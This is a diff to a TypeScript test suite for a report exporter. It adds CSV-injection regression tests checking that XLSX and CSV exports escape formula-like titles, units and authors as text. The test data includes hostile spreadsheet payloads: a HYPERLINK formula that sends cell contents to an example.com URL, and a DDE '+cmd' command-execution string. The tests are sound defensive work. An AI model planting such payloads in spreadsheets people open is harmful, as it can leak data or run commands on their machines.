@@ -24,6 +24,15 @@ const sampleText = readFileSync(join(project, 'content/initiatives', SAMPLE, 'in
 const NEW_TITLE = 'Đặt lịch hẹn trả kết quả qua Zalo để giảm hồ sơ trễ hẹn ở xã Đức Phú';
 const IMAGE = 'bieu-do-ho-so-tre-hen.png';
 const image = readFileSync(join(project, 'content/initiatives', SAMPLE, IMAGE));
+/** Titles a spreadsheet would run as formulas (OWASP "CSV injection"). */
+const HOSTILE = [
+  '=HYPERLINK("https://example.com/?q="&A1,"Bấm vào đây")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 const goodEntry = sampleText.replace(/^title: .*$/m, `title: ${NEW_TITLE}`);
 const badEntry = goodEntry.replace(/^summary: .*$/m, '');
 
@@ -117,6 +126,83 @@ describe('report from a local repository with cms/ branches (decap-server git mo
     const members = book.getWorksheet(SHEETS.members);
     expect(members?.getRow(2).getCell(2).value).toBe('Nguyễn Văn Thành');
     expect(members?.getRow(2).getCell(4).value).toBe('Chủ tịch Hội đồng');
+  });
+
+  it('writes titles, units, authors and headers that start like formulas as text, in the XLSX and the CSV', async () => {
+    const [first, ...others] = report.campaign.rubric.criteria;
+    if (!first) throw new Error('no criterion');
+    const hostileCriterion = { ...first, name: '=1+1' };
+    const hostile: Report = {
+      ...report,
+      campaign: {
+        ...report.campaign,
+        rubric: { ...report.campaign.rubric, criteria: [hostileCriterion, ...others] },
+      },
+      rows: report.rows.map((row, index) => {
+        const text = HOSTILE[index];
+        if (text === undefined) return row;
+        // A negative score is a number: it must stay one.
+        return {
+          ...row,
+          title: text,
+          unit: text,
+          authors: [{ name: text }],
+          scores: { ...row.scores, [first.id]: -5 },
+        };
+      }),
+    };
+    const path = join(mkdtempSync(join(tmpdir(), 'kho-xlsx-')), 'tong-hop.xlsx');
+    await writeXlsx(hostile, path);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.readFile(path);
+    const sheet = book.getWorksheet(SHEETS.list);
+    if (!sheet) throw new Error('no list sheet');
+    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
+    const column = (header: string) => headers.indexOf(header) + 1;
+    expect(headers).toContain(`'${criterionHeader(hostileCriterion)}`);
+    HOSTILE.forEach((text, index) => {
+      const row = sheet.getRow(index + 2);
+      for (const header of [HEADERS.title, HEADERS.unit, HEADERS.authors]) {
+        const cell = row.getCell(column(header));
+        expect(cell.type).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        // XML reads a carriage return in a text back as a line feed; the apostrophe stays first.
+        expect(cell.value).toBe(`'${text}`.replace('\r', '\n'));
+      }
+      const score = row.getCell(column(`'${criterionHeader(hostileCriterion)}`));
+      expect(score.type).toBe(ExcelJS.ValueType.Number);
+      expect(score.value).toBe(-5);
+    });
+    // The only formulas in the book are the report's own totals.
+    book.eachSheet((each) =>
+      each.eachRow((row, number) =>
+        row.eachCell((cell, col) => {
+          if (cell.type === ExcelJS.ValueType.Formula) {
+            expect([each.name, number > 1, col]).toEqual([
+              SHEETS.list,
+              true,
+              column(HEADERS.total),
+            ]);
+            expect(cell.formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
+          }
+        }),
+      ),
+    );
+
+    const records = parseCsv(toCsv(hostile), { bom: true, columns: true }) as Record<
+      string,
+      string
+    >[];
+    HOSTILE.forEach((text, index) => {
+      const record = records[index] as Record<string, string>;
+      expect(record[HEADERS.title]).toBe(`'${text}`);
+      expect(record[HEADERS.unit]).toBe(`'${text}`);
+      expect(record[HEADERS.authors]).toBe(`'${text}`);
+      expect(record[`'${criterionHeader(hostileCriterion)}`]).toBe('-5');
+      expect(record[HEADERS.index]).toBe(String(index + 1));
+    });
+    for (const record of records)
+      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+@\t\r]|^-\D/);
   });
 
   it('writes CSV in UTF-8 with a BOM and Markdown with the same rows', () => {
